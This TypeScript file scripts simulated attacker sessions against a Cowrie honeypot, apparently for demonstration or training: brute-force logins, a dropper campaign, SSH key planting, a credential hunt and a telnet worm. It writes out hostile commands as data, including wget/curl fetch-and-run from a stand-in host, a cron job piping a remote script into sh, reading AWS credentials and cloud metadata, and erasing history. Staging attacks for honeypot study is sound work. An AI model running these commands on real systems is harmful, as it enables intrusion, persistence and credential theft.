import type { SshVisitor, Stage } from './visitors.ts';

export interface Story {
  /** Its folder. */
  readonly name: string;
  readonly title: string;
  /** Paragraphs for whoever watches it. */
  readonly tells: readonly string[];
  readonly telnet?: boolean;
  /** Whom Cowrie lets in; without it, any password but the commonest. */
  readonly userdb?: readonly string[];
  play(stage: Stage): Promise<void>;
}

/** All addresses are from the ranges that are kept for documentation; all commands are our own. */
export const stories: readonly Story[] = [
  {
    name: 'brute-force-bot',
    title: 'A bot tries passwords until one fits, looks once and leaves',
    tells: [
      'Four addresses of one network share a list of user names and passwords. Most connections try one to three passwords and close.',
      'The last one gets in as `root`, asks what machine this is, and goes: it only collects logins.',
    ],
    userdb: ['root:x:Qwerty!2345', 'backup:x:backup', '*:x:!*'],
    async play({ ssh, pause }) {
      const tries: readonly (readonly [string, readonly string[]])[] = [
        ['root', ['root', 'toor', '123456']],
        ['admin', ['admin']],
        ['root', ['password', 'passw0rd']],
        ['oracle', ['oracle', 'oracle123']],
        ['ubuntu', ['ubuntu']],
        ['test', ['test', 'test123', 'testing']],
        ['postgres', ['postgres']],
        ['root', ['1qaz2wsx', 'abc123', 'letmein']],
        ['git', ['git']],
        ['deploy', ['deploy', 'deploy2024']],
        ['root', ['Admin@123', 'P@ssw0rd']],
        ['pi', ['raspberry']],
        ['ftpuser', ['ftpuser', 'ftp123']],
        ['root', ['changeme', 'server', 'linux']],
      ];
      for (const [index, [username, passwords]] of tries.entries()) {
        const visit = await ssh({ ...golang, address: `203.0.113.${20 + (index % 4)}`, username, passwords });
        await visit.leave().catch(() => {});
        await pause(300);
      }
      const last = await ssh({ ...golang, address: '203.0.113.22', username: 'root', passwords: ['Qwerty!2345'] });
      await last.exec('uname -s -v -n -r -m');
      await last.leave();
    },
  },
  {
    name: 'dropper-campaign',
    title: 'Three addresses fetch and run the same payload',
    tells: [
      'Each visit is one script in single commands: what machine, how many cores, who is mining already; then a payload for the architecture is fetched with wget, curl or tftp, made executable, run, and the traces are removed.',
      'The three addresses send the same commands in the same order with the same client: one campaign.',
    ],
    async play({ ssh, pause }) {
      for (const address of ['198.51.100.44', '198.51.100.131', '203.0.113.90']) {
        const visit = await ssh({ ...libssh, address, username: 'root', passwords: ['hunter-2024'] });
        for (const command of [
          'uname -m',
          'cat /proc/cpuinfo | grep "model name" | wc -l',
          'ps aux | grep -i xmrig | grep -v grep',
          'cd /tmp || cd /var/run || cd /dev/shm; wget -q http://192.0.2.66/kits/node.x86_64 -O .kw || curl -s http://192.0.2.66/kits/node.x86_64 -o .kw; chmod 755 .kw; ./.kw node; rm -f .kw',
          'cd /tmp; tftp -g -r node.x86_64 192.0.2.66; chmod +x node.x86_64; ./node.x86_64 tftp',
          '(crontab -l; echo "*/7 * * * * wget -qO- http://192.0.2.66/kits/again.sh | sh") | crontab -',
          'unset HISTFILE; history -c; rm -f /root/.bash_history',
        ]) {
          await visit.exec(command);
          await pause(150);
        }
        await visit.leave();
        await pause(900);
      }
    },
  },
  {
    name: 'key-planter',
    title: 'An intruder leaves a key and locks the others out',
    tells: [
      'In one shell, pasted: the visitor replaces the authorised keys with his own, makes the file unchangeable, sets a new password, and ends rivals.',
      'A minute later he comes back to see whether it holds.',
    ],
    async play({ ssh, pause }) {
      const key = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEm1xgk2mJ0v0Y4gq1cV2b1oQmGx8l5T3yHk7bDq0nRw ops@jump';
      const visit = await ssh({
        ...paramiko,
        address: '192.0.2.201',
        username: 'root',
        passwords: ['root', 'winter-77'],
      });
      const shell = await visit.shell();
      for (const line of [
        'id',
        'cd /root; chattr -ia .ssh; lockr -ia .ssh',
        `mkdir -p /root/.ssh; echo "${key}" > /root/.ssh/authorized_keys; chmod 600 /root/.ssh/authorized_keys`,
        'chattr +ia /root/.ssh/authorized_keys',
        'echo "root:kM3-vale-90" | chpasswd',
        'pkill -9 kinsing; pkill -9 xmrig',
        'echo "" > /etc/hosts.deny',
        'exit',
      ]) {
        await shell.paste(line);
        await pause(120);
      }
      await visit.leave().catch(() => {});
      await pause(2500);
      const again = await ssh({ ...paramiko, address: '192.0.2.201', username: 'root', passwords: ['kM3-vale-90'] });
      await again.exec('cat /root/.ssh/authorized_keys');
      await again.leave();
    },
  },
  {
    name: 'person-looks-for-credentials',
    title: 'A person looks around for cloud keys and databases',
    tells: [
      'Typed by hand, slowly, with mistakes and corrections: first who and where, then the history of the commands of others, which leads to the AWS folder, the configuration of the billing application and the backup script.',
      'This is the visitor for whom adaptations are made: what he looks for, the next visit finds.',
    ],
    async play({ ssh, pause }) {
      const visit = await ssh({ ...openssh, address: '198.51.100.7', username: 'root', passwords: ['Summer-2026'] });
      const shell = await visit.shell();
      const slow = 110;
      for (const [line, thinkMs] of [
        ['whoami', 900],
        ['ls -lah~~~a', 1500],
        ['cat .bash_hsit~~~istory', 2800],
        ['ls -la .aws', 1200],
        ['cat .aws/credentials', 3200],
        ['cat .aws/config', 1500],
        ['env | grep -i aws', 1300],
        ['cat /opt/billing/config/datbase.conf', 1000],
        ['cat /opt/billing/config/database.conf', 3000],
        ['psql -h db-01.internal -U billing_rw billing', 2000],
        ['cat backup.sh', 2600],
        ['ls -la .ssh; cat .ssh/id_rsa', 2400],
        ['cat /etc/passwd | grep -v nologin', 1800],
        ['grep -ri passw~~~~~password /opt /etc 2>/dev/null | head', 2500],
        ['find / -name "*.pem" 2>/dev/null', 1700],
        ['curl http://169.254.169.254/latest/meta-data/iam/security-credentials/', 2200],
        ['tar czf /tmp/b.tgz /opt/billing/config /root/.aws', 1500],
        ['exit', 500],
      ] as const) {
        await pause(thinkMs);
        await shell.type(line, slow);
      }
      await visit.leave().catch(() => {});
    },
  },
  {
    name: 'tunnel-abuser',
    title: 'A login is used as a relay',
    tells: [
      'No command is typed. The visitor asks for tunnels to a mail server and to web sites and sends requests into them: the host is to hide where they come from.',
    ],
    async play({ ssh, pause }) {
      const visit = await ssh({ ...putty, address: '203.0.113.155', username: 'admin', passwords: ['support'] });
      await visit.tunnel(
        'www.example.com',
        80,
        'GET / HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Mozilla/5.0\r\n\r\n',
      );
      await pause(400);
      await visit.tunnel('mail.example.net', 25, 'EHLO relay.example.org\r\nMAIL FROM:<billing@example.org>\r\n');
      await pause(400);
      await visit.tunnel('192.0.2.80', 443, '\x16\x03\x01\x00\x05hello');
      await visit.tunnel('login.example.com', 443, '\x16\x03\x01\x00\x05hello');
      await visit.leave();
    },
  },
  {
    name: 'telnet-echo-dropper',
    title: 'A worm on telnet writes its loader by echo',
    tells: [
      'Default passwords of devices, then the steps of a worm: leave the menu of the device, learn by a made-up applet name whether busybox answers, find a folder that can be written, write a small loader in hexadecimal pieces, run it and remove it.',
    ],
    telnet: true,
    userdb: ['root:x:vizxv', '*:x:!*'],
    async play({ telnet, pause }) {
      for (const [index, password] of ['xc3511', 'vizxv'].entries()) {
        const visit = await telnet(index === 0 ? '192.0.2.33' : '192.0.2.34');
        await visit.answer(/login: ?$/i, 'root');
        await visit.answer(/assword: ?$/i, password);
        if (index === 0) {
          await pause(1500);
          await visit.leave().catch(() => {});
          continue;
        }
        for (const line of [
          'enable',
          'system',
          'shell',
          'sh',
          '/bin/busybox KESTREL',
          'cat /proc/mounts; /bin/busybox KESTREL',
          'cd /dev/shm; cat .k || cp /bin/echo .k; /bin/busybox KESTREL',
          'tftp; wget; /bin/busybox KESTREL',
          'dd bs=52 count=1 if=.k || cat .k || while read i; do echo $i; done < .k',
          'echo -ne "\\x7f\\x45\\x4c\\x46\\x02\\x01\\x01\\x00\\x00\\x00\\x00\\x00" > .d; /bin/busybox KESTREL',
          'echo -ne "\\x02\\x00\\x3e\\x00\\x01\\x00\\x00\\x00\\x78\\x00\\x40\\x00" >> .d; /bin/busybox KESTREL',
          'chmod 777 .d; ./.d; rm -f .d .k; /bin/busybox KESTREL',
        ]) {
          await visit.paste(line);
          await pause(200);
        }
        await visit.leave().catch(() => {});
      }
    },
  },
];

type Software = Pick<SshVisitor, 'client' | 'kex'>;
const golang: Software = {
  client: 'Go',
  kex: ['curve25519-sha256', 'ecdh-sha2-nistp256', 'diffie-hellman-group14-sha256'],
};
const libssh: Software = { client: 'libssh_0.9.6', kex: ['curve25519-sha256', 'ecdh-sha2-nistp521'] };
const paramiko: Software = { client: 'paramiko_2.9.2', kex: ['ecdh-sha2-nistp256', 'curve25519-sha256'] };
const openssh: Software = { client: 'OpenSSH_8.9p1 Ubuntu-3ubuntu0.10' };
const putty: Software = { client: 'PuTTY_Release_0.78', kex: ['ecdh-sha2-nistp384', 'curve25519-sha256'] };
